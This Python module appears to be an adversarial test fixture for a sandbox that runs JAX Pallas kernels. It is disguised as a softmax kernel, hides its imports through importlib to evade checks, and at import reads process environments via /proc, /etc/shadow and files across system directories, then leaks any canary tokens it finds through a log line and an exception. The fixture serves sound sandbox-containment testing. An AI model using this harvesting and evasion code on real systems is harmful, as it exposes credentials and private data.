"""Attack: find secrets — the engine's environment (its own, every visible process's through
/proc), canary files (outside any bound path; in NEARMISS_HOME), the project tree, /etc/shadow
(read with numpy) and every small file it can walk to — and send them back in its log and error.
"""

import typing

import jax
import jax.numpy as jnp
from jax.experimental import pallas as pl

load = typing.sys.modules["importlib"].import_module
os = load("os")
CANARY = load("re").compile(r"nearmiss-canary-[0-9a-f]+")
TARGETS = {}  # the test writes {"files": {name: path}} here
WALKED = ("/tmp", "/root", "/home", "/var", "/run", "/work", "/etc", "/opt", "/mnt", "/srv")
SKIPPED = {".venv", ".git", "node_modules", "site-packages", "__pycache__"}


def read(path: str, limit: int = 1 << 20) -> str:
    with open(path, "rb") as handle:
        return handle.read(limit).decode("latin-1")


def error_name(exc: Exception) -> str:
    if isinstance(exc, OSError):
        return load("errno").errorcode.get(exc.errno, type(exc).__name__)
    return type(exc).__name__


def sweep() -> tuple[set, dict]:
    """Every canary this process can see, and how each targeted read went."""
    seen = set(CANARY.findall(repr(dict(os.environ))))
    glob = load("glob")
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            seen.update(CANARY.findall(read(path)))
        except OSError:
            continue
    outcomes = {}
    for name, path in TARGETS.get("files", {}).items():
        try:
            seen.update(CANARY.findall(read(path)))
            outcomes[name] = "read"
        except Exception as exc:
            outcomes[name] = error_name(exc)
    np = load("numpy")
    try:
        shadow = np.fromfile("/etc/shadow", dtype=np.uint8).tobytes()
        outcomes["shadow"] = "read-root" if b"root:" in shadow else "read"
    except Exception as exc:
        outcomes["shadow"] = error_name(exc)
    budget = 20000
    for top in WALKED:
        for folder, subfolders, names in os.walk(top):
            subfolders[:] = [s for s in subfolders if s not in SKIPPED]
            for name in names:
                budget -= 1
                if budget < 0:
                    return seen, outcomes
                path = os.path.join(folder, name)
                try:
                    if load("stat").S_ISREG(os.lstat(path).st_mode):  # never a FIFO
                        seen.update(CANARY.findall(read(path, 1 << 16)))
                except OSError:
                    continue
    return seen, outcomes


SEEN, OUTCOMES = sweep()
LINE = "ATTACK " + " ".join(f"{key}={value}" for key, value in OUTCOMES.items())
LINE += " leaked=" + (",".join(sorted(SEEN)) or "none")
print(LINE, flush=True)


def kernel(x):
    raise RuntimeError(LINE)


def _softmax(x_ref, o_ref):
    x = x_ref[...]
    e = jnp.exp(x - jnp.max(x, axis=-1, keepdims=True))
    o_ref[...] = e / jnp.sum(e, axis=-1, keepdims=True)


def softmax(x):
    return pl.pallas_call(_softmax, out_shape=jax.ShapeDtypeStruct(x.shape, x.dtype))(x)
